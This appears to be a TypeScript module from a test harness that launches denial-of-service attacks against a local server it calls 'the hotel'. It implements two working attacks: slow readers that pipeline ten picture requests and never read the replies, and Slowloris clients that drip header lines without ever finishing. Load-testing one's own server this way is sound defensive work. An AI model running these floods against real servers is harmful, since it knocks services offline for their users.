import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { openSocket } from '../client.ts';
import { type Attack, attackerAddress } from './attack.ts';

const CLIENTS = 1_000;
/** Opened at once. */
const BATCH = 10;
/** The most on one connection that the hotel answers. */
const FETCHES = 10;

/**
 * Keeps `CLIENTS` connections open, and reopens those that the hotel closes. They are opened during the first half of the attack: the
 * handshakes of a thousand at once would mostly measure the machine.
 */
async function keepOpen(
  open: (i: number) => Socket,
  attackMs: number,
  signal: AbortSignal,
): Promise<{ open: number; closed: number }> {
  const sockets = new Map<number, Socket>();
  let closed = 0;
  const pauseMs = (attackMs / 2 / CLIENTS) * BATCH;
  while (!signal.aborted) {
    for (let i = 0; i < CLIENTS && !signal.aborted; i++) {
      if (sockets.get(i)?.destroyed === false) continue;
      if (sockets.has(i)) closed++;
      sockets.set(i, open(i));
      if (i % BATCH === 0) await sleep(pauseMs);
    }
    await sleep(250, undefined, { signal }).catch(() => {});
  }
  const left = [...sockets.values()].filter(({ destroyed }) => !destroyed);
  for (const socket of sockets.values()) socket.destroy();
  return { open: left.length, closed };
}

/** Clients that fetch a picture ten times on each connection, and read none. */
export const slowReaders: Attack = async ({ port, picture, attackMs }, signal) => {
  const fetches = `GET ${picture} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(FETCHES);
  const { open, closed } = await keepOpen(
    (i) => openSocket(port, attackerAddress(i), fetches),
    attackMs,
    signal,
  );
  return { achieved: `${open} connections open at the end, ${closed} closed by the hotel` };
};

/** Clients that never finish their headers. */
export const slowLoris: Attack = async ({ port, attackMs }, signal) => {
  const start = (i: number) => {
    const socket = openSocket(port, attackerAddress(i), 'GET / HTTP/1.1\r\nHost: x\r\n');
    const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), 1_000);
    socket.resume().once('close', () => clearInterval(timer));
    return socket;
  };
  const { open, closed } = await keepOpen(start, attackMs, signal);
  return { achieved: `${open} connections open at the end, ${closed} closed by the hotel` };
};
